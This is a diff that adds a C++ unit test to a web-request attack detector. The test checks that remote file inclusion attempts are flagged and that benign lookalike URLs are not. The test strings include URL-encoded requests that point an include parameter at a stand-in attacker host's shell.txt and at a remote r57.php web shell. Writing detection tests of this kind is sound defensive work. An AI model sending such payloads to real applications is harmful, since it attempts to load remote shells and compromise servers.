@@ -1218,5 +1218,24 @@ TEST_F(DetectorsTest, QuoteInsideAMysqlExecutableCommentIsAProbe) {
   }
 }
 
+TEST_F(DetectorsTest, RemoteInclusionThroughAFileParameter) {
+  // A remote file with a trailing '?' in a parameter the application includes from.
+  for (const char* t : {"/page.php?file=http%3A%2F%2Fevil.example%2Fshell.txt%3F",
+                        "/index.php?page=https://203.0.113.9/x/r57.php%3F%3F",
+                        "/view?template=ftp://files.example/inc/boot.inc%3F"}) {
+    EXPECT_TRUE(detects(Req{"GET", t, {}, ""}, AttackClass::Ssrf)) << t;
+  }
+  // Benign twins: a link parameter, a picture or page with an empty query, a URL without a
+  // file name, the same value elsewhere (PL2 only).
+  for (const char* t : {"/go?url=http%3A%2F%2Fevil.example%2Fshell.txt%3F",
+                        "/p?file=https://cdn.example/img/cat.jpg%3F",
+                        "/p?page=https://docs.example/guide/intro.html%3F",
+                        "/p?page=https://docs.example/guide/%3F"}) {
+    EXPECT_TRUE(clean(Req{"GET", t, {}, ""})) << t;
+  }
+  EXPECT_TRUE(detects(atPl2(Req{"GET", "/go?url=http%3A%2F%2Fevil.example%2Fshell.txt%3F", {}, ""}),
+                      AttackClass::Ssrf));
+}
+
 } // namespace
 } // namespace bulwark::detect
